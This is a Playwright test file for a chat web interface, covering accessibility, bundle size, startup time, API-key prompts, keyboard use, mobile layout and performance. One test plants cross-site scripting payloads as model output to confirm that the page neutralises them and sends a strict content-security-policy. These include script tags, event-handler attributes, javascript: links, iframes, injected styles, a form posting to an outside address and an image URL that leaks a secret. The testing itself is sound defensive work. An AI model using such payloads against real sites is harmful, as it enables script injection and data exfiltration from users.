// What the page is: small, quick, safe, and usable by everybody.
import AxeBuilder from '@axe-core/playwright';
import assert from 'node:assert/strict';
import { readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import test from 'node:test';
import { articles, composer, conversation, lastAnswer, plant, plantAnswer, root, say, slowness, url, visit } from './browser.mjs';

const TALK = [
  { role: 'user', content: 'How does a mixture of experts work?' },
  { role: 'assistant', content: 'A **router** chooses two of eight experts.\n\n```python\nx = router(h)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$$y = \\sum_i g_i E_i(x)$$' },
];

test('nothing is amiss for axe, in light and dark, wide and narrow', async (t) => {
  const id = plant(conversation('Accessible', TALK));
  for (const colorScheme of ['light', 'dark']) {
    const page = await visit(t, `/#/chat/${id}`, { colorScheme });
    const check = async (what) => {
      const { violations } = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']).analyze();
      assert.deepEqual(violations.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)]), [], `${what} in ${colorScheme}`);
    };
    await articles(page).nth(1).locator('math').waitFor();
    await check('a conversation');
    for (const drawer of ['Settings', 'Prompt']) {
      await page.getByRole('button', { name: drawer, exact: true }).click();
      await page.locator(drawer === 'Settings' ? 'aside .panel' : 'aside pre').waitFor();
      await check(drawer);
    }
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+k');
    await page.locator('[role=option]').first().waitFor();
    await check('the finder');
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+Shift+O');
    await page.locator('.welcome li').first().waitFor();
    await check('an empty conversation');
    await page.setViewportSize({ width: 390, height: 780 });
    await page.getByRole('button', { name: 'Show rooms' }).click();
    await check('the rail on a phone');
  }
});

test('all of it is under 400 kB packed', () => {
  const dist = join(root, 'web/dist');
  const files = readdirSync(dist, { recursive: true }).filter((name) => name.endsWith('.gz'));
  const bytes = files.reduce((sum, name) => sum + statSync(join(dist, name)).size, 0);
  assert.ok(files.length > 3 && bytes < 400_000, `${files.length} files, ${bytes} bytes`);
});

test('it takes what is typed within a second', async (t) => {
  const page = await visit(t);
  const times = [];
  for (let i = 0; i < 5; i++) {
    await page.goto('about:blank');
    await page.goto(url, { waitUntil: 'commit' });
    await page.waitForFunction(() => document.activeElement?.id === 'composer' && document.querySelector('.welcome h2'));
    times.push(await page.evaluate(() => performance.now()));
  }
  const slow = slowness();
  t.diagnostic(`ready after ${times.map(Math.round).join(', ')} ms; this machine is ${slow.toFixed(1)} times slower than usual`);
  assert.ok(Math.min(...times) < 1000 * slow);
});

test('whatever a model writes is only shown: no script, no style, no picture, no other host', async (t) => {
  const hostile = [
    '<script>window.hurt = 1</script><img src="http://203.0.113.1/a.png" onerror="window.hurt = 1">',
    '![steal](http://203.0.113.1/?q=secret)',
    '[link](javascript:window.hurt=1) <a href="javascript:window.hurt=1">x</a> <iframe src="http://203.0.113.1"></iframe>',
    '<style>body { display: none }</style><div style="position:fixed;inset:0">over</div>',
    '<form action="http://203.0.113.1"><input name=a></form><svg onload="window.hurt=1"></svg>',
    '$\\href{javascript:window.hurt=1}{x}$ $\\includegraphics{http://203.0.113.1/b.png}$',
    '```html\n<script>window.hurt = 1</script>\n```',
  ];
  const id = plant(conversation('<img src=x onerror=window.hurt=1>', [{ role: 'user', content: hostile[0] }, { role: 'assistant', content: hostile.join('\n\n') }]));
  // That the policy was at work is what is wanted.
  const page = await visit(t, `/#/chat/${id}`, { expected: [/Applying inline style violates/] });
  await lastAnswer(page).locator('.hljs-tag').first().waitFor();
  await lastAnswer(page).locator('math').first().waitFor();
  assert.equal(await page.evaluate(() => window.hurt), undefined);
  const found = await lastAnswer(page).locator('script, img, iframe, style, form, input, [style], a[href^=javascript]').count();
  assert.equal(found, 0);
  assert.equal(await page.locator('body').evaluate((body) => getComputedStyle(body).display), 'block');

  const response = await fetch(url, { headers: { accept: 'text/html' } });
  const policy = response.headers.get('content-security-policy');
  assert.match(policy, /default-src 'none'; script-src 'self'; style-src 'self'/);
  assert.doesNotMatch(policy, /unsafe|\*/);
  assert.equal(await (await fetch(url)).text(), 'Ollama is running');
});

test('a server with keys asks once for one; one without history says so and loses nothing on a reload', async (t) => {
  const page = await visit(t, '/', { base: process.env.OCTET_LOCKED_URL, expected: [/401/] });
  const question = page.getByRole('dialog', { name: 'This server asks for a key' });
  await question.getByLabel('API key').fill('wrong');
  await page.keyboard.press('Enter');
  await question.getByText('The server does not know that key').waitFor();
  await question.getByLabel('API key').fill('secret');
  await page.keyboard.press('Enter');
  await page.locator('.welcome h2').waitFor();
  await page.getByText('This server keeps no conversations').waitFor();
  await page.getByRole('button', { name: 'Settings', exact: true }).click();
  await page.getByRole('spinbutton', { name: 'Most tokens' }).fill('4');
  await say(page, 'Hello');
  await lastAnswer(page).getByText('4 tokens').waitFor();
  await page.waitForFunction(() => Object.keys(sessionStorage).some((key) => sessionStorage[key].includes('"finish":"length"')));
  await page.reload();
  await lastAnswer(page).getByText('4 tokens').waitFor();
  assert.equal(await question.count(), 0);
});

test('the keyboard does everything', async (t) => {
  const page = await visit(t);
  await page.locator('.welcome h2').waitFor();
  await composer(page).pressSequentially('one');
  await composer(page).press('Shift+Enter');
  await composer(page).pressSequentially('two');
  assert.equal(await composer(page).inputValue(), 'one\ntwo');
  assert.equal(await articles(page).count(), 0);
  await page.keyboard.press('Control+Shift+Comma');
  await page.locator('aside .panel').waitFor();
  await page.keyboard.press('Escape');
  await page.locator('aside').waitFor({ state: 'detached' });
  await page.locator('main').focus();
  await page.keyboard.press('?');
  await page.getByRole('dialog', { name: 'Keys' }).waitFor();
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  // Everything is in the order of the tab key, and can be seen there.
  await page.evaluate(() => document.activeElement.blur());
  const seen = new Set();
  for (let i = 0; i < 40; i++) {
    await page.keyboard.press('Tab');
    const at = await page.evaluate(() => ({
      name: document.activeElement.getAttribute('aria-label') ?? document.activeElement.textContent.trim().slice(0, 40),
      // After the last element the browser's own ones follow.
      outlined: document.activeElement === document.body || getComputedStyle(document.activeElement).outlineStyle !== 'none' || document.activeElement.id === 'composer',
    }));
    assert.ok(at.outlined, `${at.name} shows no focus`);
    seen.add(at.name);
  }
  for (const name of ['New chat', 'Settings', 'Prompt', 'Keys', 'More']) assert.ok([...seen].some((one) => one.startsWith(name)), name);
});

test('on a phone the rail slides over, the composer is in reach, nothing is cut off', async (t) => {
  const id = plant(conversation('Phone', TALK));
  const page = await visit(t, `/#/chat/${id}`, { viewport: { width: 360, height: 640 }, hasTouch: true, isMobile: true, reducedMotion: 'reduce' });
  await articles(page).nth(1).waitFor();
  const box = await composer(page).boundingBox();
  assert.ok(box.y + box.height <= 640 && box.x >= 0 && box.x + box.width <= 360);
  assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 360);
  assert.equal(await page.locator('nav').isVisible(), false);
  await page.getByRole('button', { name: 'Show rooms' }).tap();
  await page.locator('nav').getByRole('link', { name: 'Phone' }).first().waitFor();
  // Who asked for less motion gets none.
  const duration = await page.locator('nav').evaluate((nav) => getComputedStyle(nav).transitionDuration);
  assert.match(duration, /^0m?s(, 0m?s)*$/);
  await page.getByRole('button', { name: 'Hide' }).tap({ position: { x: 340, y: 300 } });
  await page.getByRole('button', { name: 'Settings', exact: true }).tap();
  const drawer = await page.locator('aside').boundingBox();
  assert.ok(drawer.x >= 0 && drawer.width <= 360);
});

/** Frame times while `work` runs, ms, and what the page's thread computed for each of `steps`, ms, paused or not. */
async function frames(page, steps, work) {
  const session = await page.context().newCDPSession(page);
  await session.send('Performance.enable', { timeDomain: 'threadTicks' });
  const spent = async () => (await session.send('Performance.getMetrics')).metrics.find(({ name }) => name === 'TaskDuration').value * 1000;
  const before = await spent();
  await page.evaluate(() => {
    window.times = [];
    let last = performance.now();
    const step = (now) => {
      if (!window.times) return;
      window.times.push(now - last);
      last = now;
      requestAnimationFrame(step);
    };
    requestAnimationFrame(step);
  });
  await work();
  const times = await page.evaluate(() => {
    const times = window.times;
    window.times = null;
    return times;
  });
  const each = ((await spent()) - before) / steps;
  times.sort((a, b) => a - b);
  return { each, n: times.length, median: times[times.length >> 1], high: times[Math.floor(times.length * 0.95)], worst: times.at(-1) };
}

test('5,000 tokens, 500 messages and 500 conversations stay smooth', async (t) => {
  const words = 'The router sends each token to two of eight experts, and *their* outputs are added with `weights`. '.split(/(?<= )/);
  const pieces = Array.from({ length: 5000 }, (_, i) => (i % 90 === 89 ? '\n\n' : i % 300 === 150 ? '\n\n```python\nx = 1\n```\n\n' : words[i % words.length]));
  const long = plant(conversation('Long answer', [
    { role: 'user', content: 'Write a lot' },
    { role: 'assistant', content: '', runs: [{ id: plantAnswer(pieces), model: 'small', from: 0, finish: null }] },
  ]));
  const many = plant(conversation('Many messages', Array.from({ length: 500 }, (_, i) => ({ role: i % 2 ? 'assistant' : 'user', content: i % 2 ? `${TALK[1].content}\n\nNumber ${i}` : `Question ${i}` }))));
  for (let i = 0; i < 500; i++) plant(conversation(`Conversation ${i}`, [{ role: 'user', content: `About ${i}` }]), `many-${i}`);

  const page = await visit(t);
  await page.locator('nav').getByRole('link', { name: 'Conversation 499' }).waitFor();
  const limit = (what, most, { n, each, median, high, worst }) => {
    t.diagnostic(`${what}: ${each.toFixed(2)} ms of work a step; ${n} frames, median ${median.toFixed(1)} ms, 95% under ${high.toFixed(1)} ms, worst ${worst.toFixed(0)} ms`);
    // Time may pass for other reasons on a busy machine; work is the page's own, though it takes longer there too.
    assert.ok(each < most, `${what}: ${each} ms of work a step`);
  };
  limit('scrolling 500 conversations', 120, await frames(page, 20, async () => {
    for (let i = 0; i < 20; i++) {
      await page.locator('nav .list').evaluate((list) => list.scrollBy(0, 800));
      await page.waitForTimeout(30);
    }
  }));
  limit('streaming 5,000 tokens', 8, await frames(page, 5000, async () => {
    await page.evaluate((id) => (location.hash = `/chat/${id}`), long);
    await lastAnswer(page).getByText('5,000 tokens').waitFor();
  }));
  limit('typing under 500 messages', 120, await frames(page, 93, async () => {
    await page.evaluate((id) => (location.hash = `/chat/${id}`), many);
    await page.getByText('Number 499').waitFor();
    await composer(page).pressSequentially('This is typed without any lag. '.repeat(3), { delay: 20 });
  }));
  limit('scrolling 500 messages', 240, await frames(page, 40, async () => {
    for (let i = 0; i < 40; i++) {
      await page.locator('[role=log]').evaluate((log) => log.scrollBy(0, -900));
      await page.waitForTimeout(30);
    }
  }));
});
